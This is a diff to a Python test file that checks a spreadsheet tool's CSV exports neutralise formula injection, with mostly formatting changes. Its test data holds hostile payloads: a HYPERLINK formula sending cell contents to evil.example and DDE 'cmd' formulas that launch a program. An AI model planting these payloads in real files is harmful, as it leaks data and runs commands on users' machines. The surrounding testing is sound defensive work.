@@ -1,4 +1,5 @@
 """Exports are safe to open (formula injection) and outputs are written atomically, never clobbered."""
+
 from __future__ import annotations
 
 import csv
@@ -20,7 +21,7 @@ from perfxl.result import FileResult, Summary
 from perfxl.safety import FORMULA_TRIGGERS, neutralise_formula, neutralise_row
 
 PAYLOADS = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
     "=cmd|' /C calc'!A0",
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
@@ -48,7 +49,7 @@ def test_other_values_unchanged(value):
 @given(st.text())
 def test_no_neutralised_text_starts_a_formula(text):
     out = neutralise_formula(text)
-    assert not out.startswith(FORMULA_TRIGGERS) or out == text and text[0] in "+-"
+    assert not out.startswith(FORMULA_TRIGGERS) or (out == text and text[0] in "+-")
     assert out.endswith(text)  # nothing of the user's text is lost, at most a prefix is added
 
 
@@ -65,9 +66,19 @@ def _formula_cells_after_libreoffice(csv_path: Path, workdir: Path) -> list[tupl
     import openpyxl
 
     subprocess.run(
-        ["soffice", f"-env:UserInstallation=file://{workdir / '.lo'}", "--headless", "--convert-to", "xlsx",
-         "--outdir", str(workdir), str(csv_path)],
-        check=True, capture_output=True, timeout=180,
+        [
+            "soffice",
+            f"-env:UserInstallation=file://{workdir / '.lo'}",
+            "--headless",
+            "--convert-to",
+            "xlsx",
+            "--outdir",
+            str(workdir),
+            str(csv_path),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=180,
     )
     wb = openpyxl.load_workbook(workdir / (csv_path.stem + ".xlsx"))
     return [(c.coordinate, c.value) for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
@@ -78,7 +89,7 @@ def _formula_cells_after_libreoffice(csv_path: Path, workdir: Path) -> list[tupl
 def test_spreadsheet_evaluates_raw_payloads_but_not_neutralised_ones(tmp_path):
     """The control proves the test can fail: LibreOffice does run `=…` from a CSV."""
     raw = tmp_path / "raw.csv"
-    raw.write_bytes(_csv_bytes([["text"], ["=1+1"], ["=HYPERLINK(\"http://evil.example\",\"x\")"]]))
+    raw.write_bytes(_csv_bytes([["text"], ["=1+1"], ['=HYPERLINK("http://evil.example","x")']]))
     assert _formula_cells_after_libreoffice(raw, tmp_path), "control: LibreOffice should evaluate raw formulas"
     safe = tmp_path / "safe.csv"
     safe.write_bytes(_csv_bytes([neutralise_row(["text", p, -5, "-5"]) for p in PAYLOADS]))
@@ -91,8 +102,10 @@ def test_csv_report_with_hostile_cell_text_opens_without_formulas(tmp_path):
     """A finding quoting a hostile cell (sheet name and message) stays text in the CSV report."""
     from perfxl.report import ENCODING, render
 
-    hostile = "=HYPERLINK(\"http://evil.example\",\"点此\")"
-    finding = Finding("F04", Severity.ERROR, CellRef(hostile, "G4"), hostile, hostile, expected="=1+1", actual="@SUM(1)")
+    hostile = '=HYPERLINK("http://evil.example","点此")'
+    finding = Finding(
+        "F04", Severity.ERROR, CellRef(hostile, "G4"), hostile, hostile, expected="=1+1", actual="@SUM(1)"
+    )
     result = FileResult(path="=cmd.xlsx", ok=True, findings=(finding,), summary=Summary.of([finding]))
     path = tmp_path / "report.csv"
     path.write_bytes(render([result], "csv").encode(ENCODING["csv"]))
